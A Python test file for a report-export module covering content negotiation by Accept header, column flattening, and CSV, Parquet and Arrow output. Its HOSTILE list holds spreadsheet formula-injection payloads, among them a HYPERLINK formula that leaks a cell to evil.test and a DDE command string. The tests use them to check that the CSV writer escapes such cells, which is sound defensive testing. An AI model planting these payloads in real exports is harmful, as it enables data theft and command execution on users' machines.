"""Answers as tables: which form a client gets, which columns there are, and that no cell is taken for a formula."""

import csv
import io
from datetime import UTC, datetime, timedelta, timezone
from enum import StrEnum
from typing import Annotated, Any, Literal

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from pydantic import AwareDatetime, BaseModel, Field

from app.reports.base import ReportResult
from app.reports.exports import ARROW_STREAM, CSV, FORMS, JSON, PARQUET
from app.reports.negotiate import NotAcceptable, best_form
from app.reports.tables import Table, table_of

NOON = datetime(2026, 3, 1, 12, tzinfo=UTC)

# Which form

ACCEPTED = [
    ("", JSON),
    ("*/*", JSON),
    ("application/json", JSON),
    ("application/*", JSON),
    ("text/csv", CSV),
    ("TEXT/CSV; charset=utf-8; header=present", CSV),
    ("text/*", CSV),
    ("application/vnd.apache.parquet", PARQUET),
    ("application/vnd.apache.arrow.stream", ARROW_STREAM),
    ("text/html, application/xhtml+xml, application/xml;q=0.9, */*;q=0.8", JSON),
    ("text/csv, application/json", JSON),
    ("text/csv, application/json;q=0.9", CSV),
    ("application/json;q=0.2, text/csv;q=0.3, application/vnd.apache.parquet;q=0.25", CSV),
    ("*/*;q=0.1, application/json;q=0", CSV),
    ("application/*, application/json;q=0", PARQUET),
    ("text/csv;q=0.5, text/*;q=0.9, application/json;q=0.7", JSON),
    (" , text/csv ,, ", CSV),
    ("text/csv;q=high, application/json;q=0.1", JSON),
]


@pytest.mark.parametrize(("accept", "form"), ACCEPTED, ids=[accept for accept, _ in ACCEPTED])
def test_the_form_is_the_one_that_is_wanted_most(accept: str, form: object) -> None:
    assert best_form(accept) is form


@pytest.mark.parametrize("accept", ["text/html", "image/*", "text/csv;q=0", "*/*;q=0", "nonsense", ";;;=,=q", "*"])
def test_who_accepts_none_is_told_what_there_is(accept: str) -> None:
    with pytest.raises(NotAcceptable) as raised:
        best_form(accept)
    assert all(form.media_type in raised.value.detail for form in FORMS)


# Columns


class Colour(StrEnum):
    RED = "red"


class Times(BaseModel):
    count: int
    median: float


class Line(BaseModel):
    name: str
    count: Annotated[int, Field(ge=-9)]
    ratio: float | None
    at: AwareDatetime | None = None
    is_whole: bool = True
    colour: Colour = Colour.RED
    order: Literal["up", "down"] = "up"
    value: str | int | bool | None = None
    times: Times | None = None
    bins: list[int] = []
    more: dict[str, int] | None = None


COLUMNS = {
    "group": str,
    "name": str,
    "count": int,
    "ratio": float,
    "at": datetime,
    "is_whole": bool,
    "colour": str,
    "order": str,
    "value": str,
    "times_count": int,
    "times_median": float,
}


def test_columns_are_the_fields_models_within_are_unfolded_and_lists_left_out() -> None:
    line = Line(name="a", count=1, ratio=None, at=NOON, value=True, times=Times(count=2, median=1.5), bins=[1])
    table = table_of(Line, [({"group": "g"}, line), ({}, Line(name="b", count=2, ratio=0.5))], group=str)
    assert table.columns == COLUMNS
    shared: dict[str, Any] = {"is_whole": True, "colour": "red", "order": "up"}
    given = {"group": "g", "name": "a", "count": 1, "ratio": None, "at": NOON, "value": "true", **shared}
    missing = {"group": None, "name": "b", "count": 2, "ratio": 0.5, "at": None, "value": None, **shared}
    assert table.rows == [
        {**given, "times_count": 2, "times_median": 1.5},
        {**missing, "times_count": None, "times_median": None},
    ]


# Files


class Lines(ReportResult):
    lines: list[Line]

    def table(self) -> Table:
        return table_of(Line, (({}, line) for line in self.lines), group=str)


def answer(*lines: Line) -> Lines:
    return Lines(as_of=NOON + timedelta(days=1), events_read=0, lines=list(lines))


def csv_rows(*lines: Line) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(CSV.render(answer(*lines)).decode(), newline="")))


def test_a_csv_is_written_out() -> None:
    berlin = timezone(timedelta(hours=1))
    first = Line(name='Bags, "large"\nand more', count=3, ratio=0.25, at=datetime(2026, 3, 1, 13, tzinfo=berlin))
    second = Line(name="Tüten 😀", count=-4, ratio=None, is_whole=False, times=Times(count=2, median=-1.5))
    header = ",".join([*COLUMNS, "as_of"])
    assert CSV.render(answer(first, second)).decode() == (
        f"{header}\r\n"
        ',"Bags, ""large""\nand more",3,0.25,2026-03-01T12:00:00Z,true,red,up,,,,2026-03-02T12:00:00Z\r\n'
        ",Tüten 😀,-4,,,false,red,up,,2,-1.5,2026-03-02T12:00:00Z\r\n"
    )


HOSTILE = [
    '=HYPERLINK("http://evil.test?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)",
    "\t=1",
    "\rharmless",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "\ufe661",
    "\u22121",
]


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_no_text_begins_a_formula(text: str) -> None:
    [row] = csv_rows(Line(name=text, count=1, ratio=None, value=text))
    assert row["name"] == row["value"] == "'" + text


@pytest.mark.parametrize("text", ["", "Bags", "a=b", "'=1", "<script>alert(1)</script>", "5", "ä", "#1", "()"])
def test_other_texts_are_left_as_they_are(text: str) -> None:
    [row] = csv_rows(Line(name=text, count=1, ratio=None))
    assert row["name"] == text


ARROW_TYPES = {
    str: pa.string(),
    int: pa.int64(),
    float: pa.float64(),
    bool: pa.bool_(),
    datetime: pa.timestamp("us", tz="UTC"),
}


def parquet(data: bytes) -> Any:
    return pq.read_table(pa.BufferReader(data))


def arrow_stream(data: bytes) -> Any:
    with pa.ipc.open_stream(data) as reader:
        return reader.read_all()


@pytest.mark.parametrize(("form", "read"), [(PARQUET, parquet), (ARROW_STREAM, arrow_stream)], ids=["parquet", "arrow"])
@pytest.mark.parametrize("count", [0, 1, 2])
def test_a_columnar_file_has_the_types_of_its_columns_whatever_its_rows_hold(form: Any, read: Any, count: int) -> None:
    hostile = '=HYPERLINK("http://evil.test")'
    lines = [Line(name=hostile, count=2**62, ratio=None), Line(name="b", count=2, ratio=0.5, at=NOON)][:count]
    found = read(form.render(answer(*lines)))
    types = {name: ARROW_TYPES[kind] for name, kind in {**COLUMNS, "as_of": datetime}.items()}
    assert dict(zip(found.schema.names, found.schema.types, strict=True)) == types
    assert found.column("name").to_pylist() == [hostile, "b"][:count]
    assert found.column("count").to_pylist() == [2**62, 2][:count]
    assert found.column("ratio").to_pylist() == [None, 0.5][:count]
    assert found.column("at").to_pylist() == [None, NOON][:count]
    assert found.column("as_of").to_pylist() == [NOON + timedelta(days=1)] * count
